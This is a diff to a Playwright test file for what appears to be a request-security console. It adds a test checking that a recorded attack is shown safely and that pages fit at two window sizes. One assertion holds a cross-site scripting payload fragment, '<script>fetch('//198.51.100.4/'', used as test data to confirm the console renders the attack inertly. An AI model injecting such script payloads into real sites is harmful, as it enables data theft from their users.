@@ -8,7 +8,9 @@ from urllib.parse import quote
 import pytest
 from playwright.sync_api import Browser, Page, expect, sync_playwright
 from tests.console.house import House, build_house, served
-from tests.console.sample_house import LOOKUP, NOW, one_more
+from tests.console.sample_house import LOOKUP, NOW, injected, one_more
+
+from nightlatch.checks import CHECKS
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
@@ -100,6 +102,24 @@ def test_no_page_complains_or_overflows(browser: Browser, full: tuple[House, str
                 assert wider <= 0, f"{path} is {wider} pixels too wide at {size[0]}"
                 looked += 1
     assert looked == 20
+
+
+def test_an_attack_and_its_help_fit_and_run_nothing(browser: Browser) -> None:
+    house, record = build_house(5, 0, CHECKS), injected()
+    house.recorder.take([record])
+    with served(house.app) as base:
+        for size in (WIDE, NARROW):
+            with window(browser, house, base, size) as page:
+                page.goto(f"/requests/{record.id}")
+                for failed in page.locator(".check-failed details").all():
+                    failed.locator("summary").click()
+                    expect(failed.locator("pre").first).to_be_visible()
+                expect(page.get_by_text("<script>fetch('//198.51.100.4/'")).to_have_count(3)
+                for path in ("", "/checks/sql-injection", "/checks/request-framing", "/checks"):
+                    if path:
+                        page.goto(path)
+                    wider = page.evaluate("document.documentElement.scrollWidth - innerWidth")
+                    assert wider <= 0, f"{path} is {wider} pixels too wide at {size[0]}"
 
 
 def test_the_theme_follows_the_system(browser: Browser, full: tuple[House, str]) -> None:
